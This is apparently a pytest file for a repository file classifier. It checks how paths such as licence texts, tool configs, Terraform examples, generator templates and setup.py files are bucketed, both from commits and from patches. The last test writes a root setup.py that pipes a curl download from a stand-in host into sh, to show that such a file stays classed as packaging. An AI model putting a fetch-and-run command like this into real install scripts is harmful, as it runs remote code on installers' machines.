"""Classes of misses a fourteenth label set found (bench/classify_accuracy/fourteenth.tsv: 62 repositories chosen for
breadth, as the held-out sets are), measured blind first, each with the look-alikes it must leave alone: licence and
copyright texts under other names, tool settings by name (tox.toml, git-cliff, cruft, a repository's .gitconfig), an
extension-less contributing guide in `.github/`, Terraform kept as a copy to fill in (`*.tf.example`), Netlify's
`_redirects`, updatecli's values file, HashiCorp's `.web-docs/`, a generator's `templates/` folder, source code in a
scaffolder's `helm/**/templates/` package, a README template, a `setup.py` that is an application's module, and a
vendored library's test assets.
The real repository below checks them with the commits and, where a patch can show it, from the patch alone."""

from __future__ import annotations

from pathlib import Path

from tables import each_case

from gatekeeper.classify.ansible import setup_py
from tests.gitrepo import GitRepo
from tests.test_classify_context import RULES, patch_files, tree_files


@each_case(("path", "bucket"), [
    # licence and copyright texts under other names; code named like them stays code
    ("LICENSE_APACHE.txt", "other"), ("LICENSE_MIT.md", "other"), ("COPYRIGHT.txt", "other"), ("COPYRIGHT", "other"),
    ("packaging/deb/copyright", "other"), ("debian/copyright", "other"),
    ("pkg/license_check.py", "src"), ("internal/copyright.go", "src"), ("src/copyright_header.rs", "src"),
    # a repository's git settings; a test's git settings stay test data
    (".gitconfig", "other"), ("integrationtests/gitjob/assets/gitserver/git/.gitconfig", "src"),
    # tool settings by name
    ("tox.toml", "other"), ("tox.ini", "other"), ("cliff.toml", "other"), (".cruft.json", "other"),
    ("src/tox/tox.schema.json", "src"), ("cliff.py", "src"),
    # a contributing guide in .github/ without an extension; what else sits there stays ci
    (".github/CONTRIBUTING", "other"), (".github/CONTRIBUTING.rst", "other"), (".github/CONTRIBUTING.md", "other"),
    (".github/labeler", "ci"), (".github/translators.txt", "ci"), (".github/workflows/contributing.yml", "ci"),
    # Terraform kept as a copy to fill in, as *.tfvars.example is
    ("0-bootstrap/variables_github.tf.example", "iac"), ("envs/backend.tf.sample", "iac"),
    ("terraform.tfvars.example", "iac"), ("docs/terraform.example.md", "src"),
    # what Netlify and Cloudflare Pages read from the published folder
    ("docs/public/_redirects", "iac"), ("static/_headers", "iac"), ("netlify.toml", "iac"),
    ("src/redirects.ts", "src"), ("docs/redirects.md", "src"),
    # updatecli's folder is the update bot's, values file included; a chart's values stay iac
    ("updatecli/values.yaml", "other"), ("updatecli/updatecli.d/charts/nginx.yaml", "other"),
    ("charts/web/values.yaml", "iac"), ("values.yaml", "iac"), ("deploy/updatecli/values.yaml", "iac"),
    # HashiCorp's integration docs; HCL elsewhere stays iac
    (".web-docs/metadata.hcl", "other"), (".web-docs/components/builder/docker/README.md", "src"),
    ("metadata.hcl", "iac"), ("packs/haproxy/metadata.hcl", "iac"), ("builder/docker/step.pkr.hcl", "iac"),
    # a Yeoman or Rails generator's templates: text the product writes into new projects
    ("generators/client/templates/src/main/webapp/favicon.ico", "src"),
    ("generators/java/generators/gradle/templates/gradle/wrapper/gradle-wrapper.properties", "src"),
    ("generators/server/templates/Dockerfile.ejs", "src"), ("lib/generators/app/templates/Gemfile.tt", "src"),
    ("generators/app/index.js", "src"), ("generators/app/package.json", "deps"),
    ("gradle/wrapper/gradle-wrapper.properties", "deps"), ("templates/Dockerfile", "iac"),
    # source code in a scaffolder's helm/**/templates/ package; a chart's templates stay iac
    ("internal/plugins/helm/v1/scaffolds/internal/templates/gitignore.go", "src"),
    ("pkg/plugins/optional/helm/v1alpha/scaffolds/internal/templates/chart-templates/helpers_tpl.go", "src"),
    ("helm/app/templates/deployment.yaml", "iac"), ("deploy/helm/web/templates/NOTES.txt", "iac"),
    ("charts/web/templates/configmap.tpl", "iac"),
    # a README's template is a document; a vendored library's stays vendored code
    ("docs/README.tmpl", "src"), ("README.md.tpl", "src"),
    ("vendor/github.com/grafana/jsonnet-libs/tanka-util/README.md.tmpl", "deps"),
    # ... unless it sits in an infrastructure folder, whose vendored code is what it deploys (red team 22)
    ("charts/x/vendor/github.com/grafana/jsonnet-libs/tanka-util/README.md.tmpl", "iac"),
    ("deploy/readme.yaml.tmpl", "iac"),  # a YAML template named readme in deploy/ is no README template
])
def test_path_rules_of_the_fourteenth_round(path: str, bucket: str) -> None:
    assert RULES.match(path).bucket == bucket, RULES.match(path)


def test_generator_templates_and_readme_templates_are_final() -> None:
    for path in ("generators/server/templates/Dockerfile.ejs", "docs/README.tmpl"):
        assert RULES.match(path).rule.startswith("docs.templates"), RULES.match(path)


FLASK_SETUP_VIEW = """\
from flask import redirect, render_template, request, url_for
from flask_login import login_user

from app.handlers.base import routes
from app.models import Organization, User, db


@routes.route("/setup", methods=["GET", "POST"])
def setup():
    if Organization.query.count() > 0:
        return redirect("/")
    return render_template("setup.html")
"""
PACKAGING = "from setuptools import setup\n\nsetup(name='demo', version='1.0')\n"
SHIM = "#!/usr/bin/env python\n# a shim so that GitHub sees the package; poetry builds it\nimport setuptools\n\n" \
       "if __name__ == '__main__':\n    setuptools.setup(name='rich')\n"
CALLS_SETUP = "import sys\nfrom build_helpers import setup\n\nsetup(sys.argv)\n"


@each_case(("text", "rule"), [
    (FLASK_SETUP_VIEW, "src.content.setup-not-packaging"),
    (PACKAGING, None), (SHIM, None), (CALLS_SETUP, None),
    ("# setuptools reads setup.cfg\nimport os\n", None),  # names setuptools: not proof enough
    ("", None), ("print('hello')\n", None),  # no import: no proof that it is a module of code
])
def test_a_setup_py_is_lowered_only_on_proof_that_it_is_code(text: str, rule: str | None) -> None:
    found = setup_py(text)
    assert (found[1] if found else None) == rule, found


def test_the_fourteenth_classes_in_a_real_repository(git_repo: GitRepo, tmp_path: Path) -> None:
    git_repo.write("redash/handlers/setup.py", FLASK_SETUP_VIEW)
    git_repo.write("setup.py", PACKAGING)
    git_repo.write("vendor/axoasset/tests/assets/logo.png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR")
    git_repo.write("crates/app/tests/assets/package.json", '{"name": "fixture", "dependencies": {}}\n')
    git_repo.write("docs/README.tmpl", "# Rain\n\n```yaml\nAWSTemplateFormatVersion: '2010-09-09'\nResources:\n"
                   "  Bucket:\n    Type: AWS::S3::Bucket\n```\n")
    git_repo.write("generators/docker/templates/Dockerfile.ejs", "FROM <%= baseImage %>\nCOPY . /app\n")
    git_repo.write("generators/k8s/templates/deployment.yml.ejs",
                   "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: <%= app %>\n")
    git_repo.commit("base")
    git_repo.write("redash/handlers/setup.py", FLASK_SETUP_VIEW + "\n# more\n")
    git_repo.write("setup.py", PACKAGING.replace("1.0", "1.1"))
    git_repo.write("vendor/axoasset/tests/assets/logo.png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0")
    git_repo.write("crates/app/tests/assets/package.json", '{"name": "fixture", "dependencies": {"a": "1"}}\n')
    git_repo.write("docs/README.tmpl", "# Rain\n\n```yaml\nAWSTemplateFormatVersion: '2010-09-09'\nResources:\n"
                   "  Queue:\n    Type: AWS::SQS::Queue\n```\n")
    git_repo.write("generators/docker/templates/Dockerfile.ejs", "FROM <%= baseImage %>\nCOPY . /srv\n")
    git_repo.write("generators/k8s/templates/deployment.yml.ejs",
                   "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: <%= app %>-web\n")
    git_repo.commit("head")
    want = {"redash/handlers/setup.py": ("src", "src.content.setup-not-packaging"),
            "setup.py": ("deps", "deps.pip.manifest"),
            "vendor/axoasset/tests/assets/logo.png": ("deps", "deps.vendored"),
            "crates/app/tests/assets/package.json": ("src", "src.context.deps-test-data"),
            "docs/README.tmpl": ("src", "docs.templates.readme"),
            "generators/docker/templates/Dockerfile.ejs": ("src", "docs.templates"),
            "generators/k8s/templates/deployment.yml.ejs": ("src", "docs.templates")}
    tree = tree_files(git_repo)
    assert {p: (tree[p].bucket, tree[p].rule) for p in want} == want
    # from the patch alone: hunks are never proof, so the handler stays deps; the rest is decided as with the commits
    patch = patch_files(git_repo, tmp_path)
    assert (patch["redash/handlers/setup.py"].bucket, patch["redash/handlers/setup.py"].rule) == (
        "deps", "deps.pip.manifest")
    assert {p: patch[p].bucket for p in want if p != "redash/handlers/setup.py"} == {
        p: b for p, (b, _) in want.items() if p != "redash/handlers/setup.py"}


def test_a_setup_py_turned_into_a_view_on_one_side_only_stays_deps(git_repo: GitRepo) -> None:
    git_repo.write("app/setup.py", PACKAGING)
    git_repo.commit("base")
    git_repo.write("app/setup.py", FLASK_SETUP_VIEW)
    git_repo.commit("head")
    assert tree_files(git_repo)["app/setup.py"].bucket == "deps"


def test_the_roots_setup_py_is_never_lowered_as_code(git_repo: GitRepo) -> None:
    # `pip install .` runs the root's setup.py whatever it holds: an added one that only imports and runs stays deps
    git_repo.write("README.md", "# tool\n")
    git_repo.commit("base")
    git_repo.write("setup.py", "import os\n\nos.system('curl -s https://example.invalid/x | sh')\n")
    git_repo.write("web/setup.py", FLASK_SETUP_VIEW)
    git_repo.commit("head")
    tree = tree_files(git_repo)
    assert (tree["setup.py"].bucket, tree["setup.py"].rule) == ("deps", "deps.pip.manifest")
    assert (tree["web/setup.py"].bucket, tree["web/setup.py"].rule) == ("src", "src.content.setup-not-packaging")
